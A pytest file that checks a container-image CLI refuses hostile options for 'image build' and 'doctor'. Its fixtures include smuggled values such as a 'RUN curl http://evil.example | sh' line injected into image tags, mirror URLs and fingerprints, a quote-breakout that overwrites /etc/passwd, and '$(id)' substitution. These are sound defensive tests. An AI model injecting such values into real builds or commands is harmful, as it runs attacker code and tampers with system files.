"""Hostile input to `image build` and `doctor`: refused with one `error:` + `hint:` line and exit 2, before
anything reaches a Dockerfile, the engine or the network; never an `internal error`."""

from __future__ import annotations

import pytest

INJECTED = "\nRUN curl http://evil.example | sh\n"

BUILD_CASES = [
    # (options, what the error names)
    (["--base", f"debian:trixie{INJECTED}"], "is not an image reference"),
    (["--base", "Upper/Case:1"], "is not an image reference"),
    (["--base", "debian:trixie FROM x"], "is not an image reference"),
    (["--tag", f"x:1{INJECTED}"], "is not an image reference"),
    (["--apt-mirror", f"http://deb.debian.org/debian{INJECTED}"], "apt_mirror"),
    (["--apt-mirror", 'http://x/debian" > /etc/passwd; echo "'], "apt_mirror"),
    (["--apt-mirror", "ftp://x/debian"], "is not an http(s) URL"),
    (["--pypi-index", f"https://pypi.org/simple{INJECTED}"], "pypi_index"),
    (["--pypi-index", "https://pypi.org/simple$(id)"], "contains '$'"),
    (["--pypi-index", "https://pypi.org:notaport/simple"], "invalid port"),
    (["--aws-cli-url", "{0}"], "aws_cli_url"),
    (["--aws-cli-url", "https://x/{version"], "aws_cli_url"),
    (["--aws-cli-url", "https://x/{nope}.zip"], "placeholder {nope}"),
    (["--aws-cli-fingerprint", f"FB5DB77F{INJECTED}"], "not a 40-digit hex fingerprint"),
    (["--suite", f"trixie{INJECTED}"], "unknown Debian suite"),
    (["--snapshot", f"20250101T000000Z{INJECTED}"], "is not a timestamp"),
    (["--sources", "nope"], "unknown sources profile"),
    (["--cuda-version", "[/]"], "unsupported CUDA version"),
    (["--version", "1.0\nRUN x"], "is not a valid tag"),
]


@pytest.mark.parametrize(("options", "named"), BUILD_CASES)
def test_image_build_dry_run_refuses_hostile_options(cli, options: list[str], named: str) -> None:
    r = cli("image", "build", "python", "--dry-run", "--sources", "debian", *options)
    assert r.exit_code == 2, r.stdout + r.stderr
    assert r.stdout == ""  # no Dockerfile at all, let alone one with the injected instruction
    lines = r.stderr.splitlines()
    assert lines[0].startswith("error: ") and named in lines[0], r.stderr
    assert len(lines) == 2 and lines[1].startswith("hint: "), r.stderr
    assert "internal error" not in r.stderr and "Traceback" not in r.stderr


def test_a_well_formed_dry_run_still_prints_the_dockerfile(cli) -> None:
    r = cli("image", "build", "python", "--dry-run", "--sources", "debian",
            "--base", "127.0.0.1:5000/ap/base:1@sha256:" + "a" * 64, "--apt-mirror", "http://deb.debian.org/debian")
    assert r.exit_code == 0, r.stderr
    assert r.stdout.count("FROM 127.0.0.1:5000/ap/base:1@sha256:") == 2
    assert 'echo "deb http://deb.debian.org/debian ${VERSION_CODENAME} main contrib non-free"' in r.stdout


@pytest.mark.parametrize("registry", ["localhost:notaport", "localhost:99999", "reg\nistry:5000", "http://h:1/x y"])
def test_doctor_refuses_a_malformed_registry(cli, registry: str) -> None:
    r = cli("doctor", "--registry", registry)
    assert r.exit_code == 2
    lines = r.stderr.splitlines()
    assert lines[0].startswith("error: --registry ") and "is not HOST:PORT or an http(s) URL" in lines[0]
    assert lines[1].startswith("hint: ") and "internal error" not in r.stderr
